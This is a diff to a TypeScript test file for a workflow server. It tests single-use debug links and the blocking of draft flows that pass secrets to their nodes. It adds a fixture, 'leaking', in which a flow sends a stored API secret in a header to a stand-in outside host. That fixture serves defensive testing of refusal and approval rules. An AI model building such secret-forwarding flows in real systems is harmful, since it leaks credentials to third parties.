@@ -136,7 +136,10 @@ test("used, expired, guessed and foreign links, and those of deleted flows, give
 test("of many who open a link for a single use at once, one gets a run", async () => {
   const { path } = await make(await aFlow())
   const pages = await Promise.all(Array.from({ length: 6 }, () => testBrowser(server).get(path)))
-  deepEqual(pages.map(({ statusCode }) => statusCode).toSorted((a, b) => a - b), [200, 404, 404, 404, 404, 404])
+  deepEqual(
+    pages.map(({ statusCode }) => statusCode).toSorted((a, b) => a - b),
+    [200, 404, 404, 404, 404, 404],
+  )
 })
 
 test("looking at the head of a link does not use it up", async () => {
@@ -183,17 +186,24 @@ test("a library flow has no debug link, nor does a ttl have no end", async () =>
   }
 })
 
-test("a designer can't make a draft run that hands secrets to its nodes, until it was live", async () => {
-  const headers = [{ name: "x-key", secret: { $secret: "api" } }]
-  const flow = await addFlow(server, {
+/** It sends a secret to wherever its author wants. */
+const leaking = (tenant: string) =>
+  addFlow(server, {
+    tenant,
     active: false,
     nodes: {
       start: ["flow.start"],
-      call: ["server.httpRequest", { url: "https://elsewhere.example/", headers }],
+      call: [
+        "server.httpRequest",
+        { url: "https://elsewhere.example/", headers: [{ name: "x-key", secret: { $secret: "api" } }] },
+      ],
       end: ["flow.endSuccess"],
     },
     links: ["start.next > call", "call.success > end"],
   })
+
+test("a designer can't make a draft run that hands secrets to its nodes, until it was live", async () => {
+  const flow = await leaking("default")
   const designer = await server.as("designer")
   const refused = await designer.call<{ code: string }>("POST", links(flow), {})
   deepEqual([refused.status, refused.body.code], [403, "debug-link.secrets"])
@@ -203,4 +213,16 @@ test("a designer can't make a draft run that hands secrets to its nodes, until i
   const live = await server.call("PATCH", `/api/tenants/default/flows/${flow}`, { active: true })
   equal(live.status, 200, live.text)
   await make(flow, {}, designer.call)
+})
+
+test("where a second person has to approve, nobody makes such a draft run before that", async () => {
+  await server.call("POST", "/api/tenants", { id: "strict", name: "Strict" })
+  const flow = await leaking("strict")
+  await server.call("PUT", "/api/tenants/strict/settings", { approval: true })
+  const publisher = await server.as("publisher", "strict")
+  const refused = await server.call<{ code: string }>("POST", links(flow, "strict"), {})
+  deepEqual([refused.status, refused.body.code], [409, "flow.approval-needed"])
+  const approved = await publisher.call("POST", `/api/tenants/strict/flows/${flow}/revisions/1/approve`)
+  equal(approved.status, 200, approved.text)
+  equal((await server.call("POST", links(flow, "strict"), {})).status, 201)
 })
